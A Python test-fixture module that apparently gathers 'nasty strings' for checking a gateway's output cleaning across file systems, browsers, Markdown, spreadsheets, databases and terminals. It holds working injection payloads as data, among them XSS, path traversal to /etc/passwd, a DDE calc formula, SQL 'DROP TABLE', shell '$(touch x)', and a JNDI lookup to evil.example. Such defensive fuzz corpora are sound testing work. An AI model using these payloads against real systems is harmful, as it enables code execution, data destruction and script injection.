"""What a gateway may write that wants to be more than text; some of each string survives cleaning."""

from __future__ import annotations

import re

PATHS = (
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "x/../y", "./x", "x/./y", "C:\\x", "C:x",
    "\\\\server\\share", "%2e%2e%2fetc%2fpasswd", "x%00y", "x\0y", "x//y", "con", "NUL.txt", "aux/x", "COM1",
    "lpt9.json", "prn.tar.gz", "x.", "x ", " x", "x.json/y", ".hidden", ".git/config", ".next/journal",
    "~", "~root/x", "x~~y", "-rf", "--help", "x:y", "x*?<>|\"'", "x" * 600, "\U0001f600" * 70, "index.json/x",
    "\uff23\uff2f\uff2e", "caf\u00e9", "cafe\u0301", "\u0130x", "\u017fx", "\u212ax", "x\ty", "x\ny",
    "x\r\ny",
)  # fmt: skip
"""Meant for a file system."""
MARKUP = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "x' onclick='x",
    'x" onmouseover="alert(1)', "x autofocus onfocus=alert(1)", "</title><script>alert(1)</script>", "<!--x",
    "--><b>x", "]]><x/>", "<![CDATA[x", "<?xml version='1.0'?>x", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>",
    "&x;", "&lt;script&gt;x", "&#x3c;script&#x3e;x", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", 'https://evil.example/" onmouseover="x', "//evil.example/x", "https:evil.example",
    "{{ 7 * 7 }}x", "{% raw %}x", "${7*7}x", "</textarea><script>x</script>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "</script><script>alert(1)//",
    "<a href=javascript:alert(1)>x</a>", "<iframe srcdoc=x>", "<math><mi xlink:href=javascript:x>",
)  # fmt: skip
"""Meant for a browser or a reader of feeds."""
MARKDOWN = (
    "@octocat", "x @acme/team", "#1", "acme/one#1", "GH-1", "closes #1", "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))", "[x]: https://evil.example", "`x`", "``x", "```\nx", "~~~x", "| x | y |",
    "x|y", "# x", "<details open>x", "https://evil.example", "www.evil.example", "x@evil.example", "\\`x\\`",
    "x\\|y", "* x", "1. x", "> x", "$$x$$", ":x:", "<!-- x -->", "*x*",
    "0123456789abcdef0123456789abcdef01234567",
)  # fmt: skip
"""Meant for a pull request."""
SHEETS = (
    "=1+1+x", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', "+1+x", "-1+x", "@SUM(x)",
    "\t=x", "\r=x", "\n=x", "\uff1dx", "\uff0bx", "\uff0dx", "\uff20x", '"=x', ",=x", ";=x", "'=x", " =x",
    "x,y", 'x"y', "x\n=y",
)  # fmt: skip
"""Meant for a spreadsheet."""
QUERIES = ("x'; DROP TABLE listings;--", 'x" OR 1=1', "x%", "x_", "x\\", "x')--", "x;ATTACH 'x' AS x")
"""Meant for a data base."""
SCREENS = (
    "\x1b[31mx", "\x1b]0;x\x07", "\x1b]8;;https://evil.example\x1b\\x", "\x1b[2J\x1b[Hx", "\x1bcx",
    "\x9b31mx", "\x9d0;x\x9c", "\x07x", "x\b\by", "x\rover", "x\x7fy", "\u202ex\u202c", "\u2066x\u2069",
    "\u200fx",
    "\u061cx", "x\u200by", "\ufeffx", "x\u2028y", "x\u2029y", "x\u0085y", "[bold red]x[/]",
    "[link=https://evil.example]x[/link]", "[/]x", ":smile:x", "x\x0cy", "x\x0by",
)  # fmt: skip
"""Meant for a terminal."""
PROGRAMS = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "{0.__class__}x", "%s%n%x",
    "%(x)s", "::error::x", "##[error]x", "$(touch x)", "; touch x", "& x", "${jndi:ldap://evil.example/x}",
    "null", "NaN", "1e999", "true", '"}x', "\\u0000x", "\\x", "\U0010ffffx", "\ufffex", "\ue000x", "x" * 1500,
    "\u0628\u0627x", "\u00dfx",
)  # fmt: skip
"""Meant for whoever reads the data."""

CORPUS: tuple[str, ...] = (*PATHS, *MARKUP, *MARKDOWN, *SHEETS, *QUERIES, *SCREENS, *PROGRAMS)
"""Every nasty string."""

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""Characters that steer a terminal or turn the direction of a text; tabs and line ends are no harm."""
FORMULAS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""How a cell begins that a spreadsheet calculates."""
